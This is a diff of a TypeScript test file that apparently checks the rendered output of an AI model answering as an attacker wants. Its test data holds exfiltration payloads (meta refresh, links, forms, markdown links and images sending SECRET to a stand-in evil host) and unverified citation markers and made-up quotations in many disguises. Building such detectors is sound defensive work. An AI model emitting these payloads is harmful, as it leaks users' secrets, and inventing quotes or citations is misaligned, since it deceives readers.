@@ -24,22 +24,46 @@ const addresses = [
   `<meta http-equiv=refresh content="0;url=https://${evil}/SECRET">`,
   `<a href="&#104;ttps://${evil}/SECRET">x</a>`,
   `<form action="https://${evil}/SECRET"><button>x</button></form>`,
+  `[1](https://${evil}/SECRET)`,
+  "[1](/logout?SECRET)",
+  "![1](SECRET)",
 ] as const;
 /** Ways to show a number in brackets that nothing checked. */
-const markers = ["[9]", "\\[9\\]", "&#91;9&#93;", "&lbrack;9]", "[&#57;]", "[**9**]", "[<b>9</b>]", "【9】"] as const;
+const markers = [
+  "[9]",
+  "\\[9\\]",
+  "&#91;9&#93;",
+  "&lbrack;9]",
+  "[&#57;]",
+  "[**9**]",
+  "[<b>9</b>]",
+  "【9】",
+  "[Source 9]",
+  "[9 and 8]",
+  "[(9)]",
+  "[9, p. 3]",
+  "[9.]",
+] as const;
 const altered = "Keys are rotated every 70 weeks by hand";
 /** Ways to quote words that no source has. */
 const quotations =
   "“ ”|„ “|« »|» «|‹ ›|「 」|『 』|‘ ’|‚ ‘|\" \"|＂ ＂|〝 〞|❝ ❞|″ ″|´ ´|《 》|<q> </q>|&quot; &quot;|&ldquo; &rdquo;|\\\" \\\"|**“ ”**|,, ''|<< >>|>> <<|'' \"|' \"|“ ''|« \"|′ ′|‶ ″|⸂ ⸃|﹁ ﹂|ʼ ʼ"
     .split("|")
     .map((pair) => pair.split(" ").join(altered))
-    .concat(`\n\n> ${altered}\n\n`);
+    .concat(
+      `\n\n> ${altered}\n\n`,
+      `\n\n- > ${altered}\n\n`,
+      `“> ${altered}”`,
+      `“${altered}.\n\nSo it is” [1]`,
+      `“${altered}'`,
+      `“${altered} for 70"`,
+    );
 const wrappers = ["X", "> X", "- X", "**X**", "| a |\n|---|\n| X |", "# X", "text X text.", "X [1]"] as const;
 
 /** Whether a reader of the rendered page takes the words for a quotation. */
 const quotes = (html: string): boolean =>
-  /(?:["“”„«»‹›「」『』‘’‚'＂〝〞❝❞″´《》′‶⸂﹁ʼ]|,,|[<>]{2}|<q>|<blockquote>\s*<p>)\s*(?:<\w+>)?Keys are rotated every 70/iu.test(
-    decode(html).replaceAll("&quot;", '"').replaceAll("&lt;", "<").replaceAll("&gt;", ">"),
+  /(?:["“”„«»‹›「」『』‘’‚'＂〝〞❝❞″´《》′‶⸂﹁ʼ]|,,|(?:&[lg]t;){2}|<q>|<blockquote>\s*<p>)\s*(?:<\w+>)?Keys are rotated every 70/iu.test(
+    decode(html).replaceAll("&quot;", '"'),
   );
 
 const plain = new MarkdownIt({ html: true, linkify: true });
@@ -66,7 +90,8 @@ const decode = (text: string): string =>
 /** Numbers in brackets, as a reader of the rendered page sees them. */
 function numbersIn(html: string): readonly string[] {
   const seen = decode(html.replace(/<code>[^]*?<\/code>|<pre>[^]*?<\/pre>/gu, "").replace(/<[^>]*>/gu, ""));
-  return Array.from(seen.matchAll(/[[【]\s*(\d+)\s*[\]】]/gu), (match) => `[${match[1]!}]`);
+  const bracketed = /[[【]\s*(?:source |\()?(\d+)(?: and \d+|, p\. \d+|[.)])?\s*[\]】]/giu;
+  return Array.from(seen.matchAll(bracketed), (match) => `[${match[1]!}]`);
 }
 
 /** A model that answers as an attacker wants; the answer is rendered, and its page is looked at. */
